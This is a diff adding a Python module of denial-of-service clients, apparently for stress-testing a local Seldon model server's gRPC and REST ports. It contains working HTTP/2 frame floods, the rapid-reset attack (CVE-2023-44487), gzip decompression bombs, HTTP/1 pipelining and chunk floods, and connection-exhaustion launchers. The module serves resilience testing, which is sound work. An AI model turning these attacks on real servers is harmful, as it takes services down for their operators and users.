@@ -1,0 +1,174 @@
+"""Clients that mean harm: what each sends, on one connection or many, for some seconds."""
+
+import gzip
+import socket
+import threading
+import time
+import zlib
+from collections.abc import Callable, Iterator
+from contextlib import suppress
+from functools import partial
+from itertools import count, repeat
+
+from hpack import Encoder
+
+HOST = "127.0.0.1"
+CONNECT_SECONDS = 10
+MEGABYTE = 2**20
+PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
+FIELDS = [
+    (":method", "POST"),
+    (":scheme", "http"),
+    (":path", "/seldon.protos.Model/Predict"),
+    (":authority", "localhost"),
+    ("content-type", "application/grpc"),
+    ("grpc-encoding", "gzip"),
+    ("te", "trailers"),
+]
+BLOCK = Encoder().encode(FIELDS, huffman=False)
+HEAD = b"POST /predict HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\n"
+PING = b"GET /health/ping HTTP/1.1\r\nHost: x\r\n\r\n"
+
+#: Attacks a port for so many seconds.
+Attack = Callable[[int, float], None]
+
+
+def frame(kind: int, flags: int, stream: int, payload: bytes = b"") -> bytes:
+    """A frame of HTTP/2 (RFC 9113, 4.1)."""
+    head = len(payload).to_bytes(3, "big") + bytes([kind, flags]) + stream.to_bytes(4, "big")
+    return head + payload
+
+
+def send(port: int, seconds: float, parts: Iterator[bytes], *, reads: bool = True) -> None:
+    """Send parts as fast as the server takes them, until it closes or the time is over."""
+    until = time.monotonic() + seconds
+    with suppress(OSError), socket.create_connection((HOST, port), CONNECT_SECONDS) as connection:
+        connection.settimeout(seconds)
+        if reads:
+            threading.Thread(target=drain, args=(connection,), daemon=True).start()
+        for part in parts:
+            connection.sendall(part)
+            if time.monotonic() > until:
+                return
+        time.sleep(max(until - time.monotonic(), 0))
+
+
+def drain(connection: socket.socket) -> None:
+    """Read what comes, and keep none of it."""
+    with suppress(OSError):
+        while connection.recv(2**16):
+            pass
+
+
+def flood(kind: int, flags: int, stream: int, payload: bytes, port: int, seconds: float) -> None:
+    """One kind of frame again and again, on a stream that is open."""
+
+    def parts() -> Iterator[bytes]:
+        yield PREFACE + frame(4, 0, 0) + frame(4, 1, 0) + frame(1, 4, 1, BLOCK)
+        yield from repeat(frame(kind, flags, stream, payload) * 500)
+
+    send(port, seconds, parts())
+
+
+def continuations(port: int, seconds: float) -> None:
+    """A header block that never ends."""
+    start = PREFACE + frame(4, 0, 0) + frame(1, 0, 1)
+    send(port, seconds, iter([start, *[frame(9, 0, 1) * 500] * 1000]))
+
+
+def resets(port: int, seconds: float) -> None:
+    """Streams that are opened and given up at once (CVE-2023-44487)."""
+
+    def parts() -> Iterator[bytes]:
+        yield PREFACE + frame(4, 0, 0)
+        for first in count(1, 200):
+            streams = range(first, first + 200, 2)
+            yield b"".join(
+                frame(1, 4, stream, BLOCK) + frame(3, 0, stream, bytes(4)) for stream in streams
+            )
+
+    send(port, seconds, parts())
+
+
+def over_rest(start: bytes, part: bytes, port: int, seconds: float) -> None:
+    """Bytes of HTTP/1 again and again, after a start."""
+
+    def parts() -> Iterator[bytes]:
+        yield start
+        yield from repeat(part)
+
+    send(port, seconds, parts())
+
+
+def bodies(size: int, part: bytes, port: int, seconds: float) -> None:
+    """A body of so many bytes, made of parts."""
+    head = HEAD + b"Content-Length: %d\r\n\r\n" % size
+    send(port, seconds, iter([head, *[part] * (size // len(part))]))
+
+
+def rest_bomb(port: int, seconds: float) -> None:
+    """A body that inflates to 300 MB."""
+    body = gzip.compress(b'{"strData":"' + b"a" * (300 * MEGABYTE) + b'"}', 1)
+    head = HEAD + b"Content-Encoding: gzip\r\nContent-Length: %d\r\n\r\n" % len(body)
+    send(port, seconds, iter([head, body]))
+
+
+def grpc_bomb(port: int, seconds: float) -> None:
+    """A message of a few kilobytes that inflates to 60 MB."""
+    packer = zlib.compressobj(9, wbits=16 + zlib.MAX_WBITS)
+    packed = packer.compress(bytes(60 * MEGABYTE)) + packer.flush()
+    data = b"\1" + len(packed).to_bytes(4, "big") + packed
+    pieces = [data[place : place + 16_000] for place in range(0, len(data), 16_000)]
+    frames = [frame(0, 0, 1, piece) for piece in pieces[:-1]] + [frame(0, 1, 1, pieces[-1])]
+    start = PREFACE + frame(4, 0, 0) + frame(1, 4, 1, BLOCK)
+    send(port, seconds, iter([start, *frames]))
+
+
+def unread(port: int, seconds: float) -> None:
+    """Answers of 8 MB that nobody reads."""
+    body = b'{"strData":"' + b"a" * (8 * MEGABYTE) + b'"}'
+    head = HEAD + b"Content-Length: %d\r\n\r\n" % len(body)
+    send(port, seconds, iter([head, body]), reads=False)
+
+
+def idle(port: int, seconds: float) -> None:
+    """A connection on which nothing is said."""
+    send(port, seconds, iter([b""]))
+
+
+def many(attack: Attack, times: int, port: int, seconds: float) -> None:
+    """The same by several clients at once."""
+    clients = [threading.Thread(target=attack, args=(port, seconds)) for _ in range(times)]
+    for client in clients:
+        client.start()
+    for client in clients:
+        client.join()
+
+
+CHUNKED = HEAD + b"Transfer-Encoding: chunked\r\n\r\n"
+#: Floods on one connection, by what they are of, for gRPC's port and for REST's.
+GRPC_FLOODS: dict[str, Attack] = {
+    "pings": partial(flood, 6, 0, 0, b"12345678"),
+    "empty data": partial(flood, 0, 0, 1, b""),
+    "data of one byte": partial(flood, 0, 0, 1, b"x"),
+    "continuations": continuations,
+    "settings": partial(flood, 4, 0, 0, b""),
+    "window updates": partial(flood, 8, 0, 0, b"\0\0\0\1"),
+    "priorities": partial(flood, 2, 0, 1, bytes(4) + b"\1"),
+    "unknown frames": partial(flood, 77, 0, 0, b"x"),
+    "resets": resets,
+}
+REST_FLOODS: dict[str, Attack] = {
+    "pipelined requests": partial(over_rest, b"", PING * 1000),
+    "chunks of one byte": partial(over_rest, CHUNKED, b"1\r\nx\r\n" * 10_000),
+    "header fields without end": partial(over_rest, b"GET / HTTP/1.1\r\n", b"a: b\r\n" * 100),
+}
+#: What takes memory, for REST's port and for gRPC's.
+REST_HOGS: dict[str, Attack] = {
+    "30 bodies of 200 MB": partial(many, partial(bodies, 200 * MEGABYTE, b"a" * MEGABYTE), 30),
+    "bodies of empty lists": partial(many, partial(bodies, 60 * MEGABYTE, b"[]," * 2**18), 4),
+    "REST bombs": partial(many, rest_bomb, 8),
+    "unread answers": partial(many, unread, 40),
+    "1,000 idle connections": partial(many, idle, 1000),
+}
+GRPC_HOGS: dict[str, Attack] = {"gRPC bombs": partial(many, grpc_bomb, 20)}
